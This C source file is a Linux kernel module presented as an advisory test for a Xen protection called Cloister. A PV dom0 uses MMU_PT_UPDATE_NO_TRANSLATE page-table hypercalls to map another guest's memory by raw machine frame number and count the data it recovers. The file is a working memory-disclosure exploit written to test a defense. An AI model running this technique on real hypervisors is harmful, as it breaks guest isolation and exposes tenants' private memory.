/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Advisory: a guest's memory by raw machine frame number (PV dom0)
 *
 * Claim: with Cloister, dom0 finds none of a protected guest's lines in any
 * machine frame that it maps by number.
 *
 * Method: a PV dom0's kernel asks Xen to write its page tables.  With
 * MMU_PT_UPDATE_NO_TRANSLATE the number in the entry is taken for a machine
 * frame's, not for a guest frame's: whoever filters by guest frame is walked
 * around.  This module tries each machine frame of RAM, naming the victim for
 * its owner, through the page table entries of a window of its own, and counts
 * lines in all that can be mapped.
 *
 * Stock Xen: maps each frame of the victim; all lines are found.
 *
 *   insmod rawmfn.ko domid=N ram=FIRST,LAST[,FIRST,LAST...]
 *   ...; cat /sys/module/rawmfn/parameters/{lines,pages,tried}
 */

#include <linux/mm.h>
#include <linux/module.h>
#include <linux/sched.h>
#include <linux/vmalloc.h>
#include <asm/pgtable.h>
#include <asm/xen/hypercall.h>
#include <asm/xen/page.h>
#include <xen/xen.h>

#include "lines.h"

#define WINDOW     256
#define MAX_RANGES 32

static int domid;
module_param(domid, int, 0444);
static unsigned long ram[MAX_RANGES];
static int ram_count;
module_param_array(ram, ulong, &ram_count, 0444);
static unsigned long lines, pages, tried;
module_param(lines, ulong, 0444);
module_param(pages, ulong, 0444);
module_param(tried, ulong, 0444);

static char *window;
static u64 entry_at[WINDOW];    /* machine address of the page table entry */
static u64 entry[WINDOW];       /* and what it was */

static int open_window(void)
{
    unsigned int i;

    window = vmalloc(WINDOW * PAGE_SIZE);
    if ( !window )
        return -ENOMEM;
    for ( i = 0; i < WINDOW; i++ )
    {
        unsigned int level;
        pte_t *pte = lookup_address((unsigned long)window + i * PAGE_SIZE,
                                    &level);

        if ( !pte || level != PG_LEVEL_4K )
            return -EINVAL;
        entry_at[i] = arbitrary_virt_to_machine(pte).maddr;
        entry[i] = READ_ONCE(pte->pte);
    }
    return 0;
}

static int write_entry(unsigned int i, u64 command, u64 value, domid_t owner)
{
    struct mmu_update update = { .ptr = entry_at[i] | command, .val = value };

    return HYPERVISOR_mmu_update(&update, 1, NULL, owner);
}

/* Count what is mapped, and put the window's own pages back. */
static void look(unsigned int mapped)
{
    struct mmuext_op flush = { .cmd = MMUEXT_TLB_FLUSH_ALL };
    unsigned int i;

    lines += lines_in(window, mapped * PAGE_SIZE);
    pages += mapped;
    for ( i = 0; i < mapped; i++ )
        BUG_ON(write_entry(i, MMU_NORMAL_PT_UPDATE, entry[i], DOMID_SELF));
    BUG_ON(HYPERVISOR_mmuext_op(&flush, 1, NULL, DOMID_SELF));
    cond_resched();
}

static void try_range(unsigned long mfn, unsigned long last)
{
    unsigned int mapped = 0;

    for ( ; mfn <= last; mfn++ )
    {
        u64 value = (mfn << PAGE_SHIFT) | _PAGE_PRESENT | _PAGE_ACCESSED;

        tried++;
        if ( !(tried % 4096) )
            cond_resched();
        if ( write_entry(mapped, MMU_PT_UPDATE_NO_TRANSLATE, value, domid) )
            continue;
        if ( ++mapped == WINDOW )
        {
            look(mapped);
            mapped = 0;
        }
    }
    look(mapped);
}

static int __init rawmfn_init(void)
{
    int i, rc;

    if ( !xen_pv_domain() )
        return -EOPNOTSUPP;
    rc = open_window();
    for ( i = 0; !rc && i + 1 < ram_count; i += 2 )
        try_range(ram[i], ram[i + 1]);
    vfree(window);
    pr_info("rawmfn: lines %lu pages %lu tried %lu\n", lines, pages, tried);
    return rc;
}

static void __exit rawmfn_exit(void)
{
}

module_init(rawmfn_init);
module_exit(rawmfn_exit);
MODULE_DESCRIPTION("Map another domain's memory by machine frame number");
MODULE_LICENSE("Dual BSD/GPL");
